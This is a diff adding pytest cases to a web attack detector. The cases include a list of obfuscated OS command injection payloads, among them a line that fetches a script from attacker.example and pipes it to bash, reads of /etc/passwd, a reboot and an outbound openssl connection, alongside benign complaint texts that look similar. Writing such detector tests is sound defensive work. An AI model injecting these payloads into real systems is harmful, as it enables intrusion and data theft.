@@ -85,3 +85,47 @@ def test_a_login_bypass_without_trigger_words_is_caught_on_the_login_form(value:
 @pytest.mark.parametrize("value", SQLI_BENIGN)
 def test_complaints_that_look_like_sql_are_not_flagged(value: str) -> None:
     _quiet(value)
+
+
+# OS command injection
+
+CMDI = [
+    "127.0.0.1;who$()ami",
+    "x;who``ami",
+    "127.0.0.1;{curl,attacker.example/s.sh}|{bash,}",
+    "127.0.0.1;$'\\x77\\x68\\x6f\\x61\\x6d\\x69'",
+    "a;IFS=,;`cat<<<uname,-a`",
+    "127.0.0.1 & ver",
+    "127.0.0.1 & tasklist",
+    ";getent passwd",
+    ";reboot",
+    ";openssl s_client -quiet -connect 203.0.113.9:443",
+    "1; cat -n /etc/passwd",  # a path after an option, and early arguments, still count
+    "1; tar czf /tmp/x.tgz /etc",
+    "x..;id",
+]
+CMDI_BENIGN = [
+    "Street light #12 broken; cat stuck on tree near /home/street",
+    "Ver & Tasklist are our café's names",
+    "Router frozen; reboot it please",
+    "Lights out; getent? no idea",
+    "Vrata: {ulaz,izlaz} su zatvorena",
+    "Dog; cat and bird seen near the tram stop on /Ilica",
+]
+
+
+@pytest.mark.parametrize("value", CMDI)
+def test_command_injection_bypasses_are_caught(value: str) -> None:
+    assert "web.cmdi.command" in _rules(posted("/complaints", text=value)), value
+
+
+@pytest.mark.parametrize("value", CMDI_BENIGN)
+def test_complaints_that_look_like_commands_are_not_flagged(value: str) -> None:
+    _quiet(value)
+
+
+def test_a_tomcat_path_parameter_is_traversal_not_a_command() -> None:
+    req = HttpRequest(method="GET", uri="/..;/actuator/env")
+    rules = _rules(Event(id="r", timestamp=0.0, dataset="portal.http", payload=req))
+    assert "web.traversal.path" in rules
+    assert not any(r.startswith("web.cmdi.") for r in rules), rules
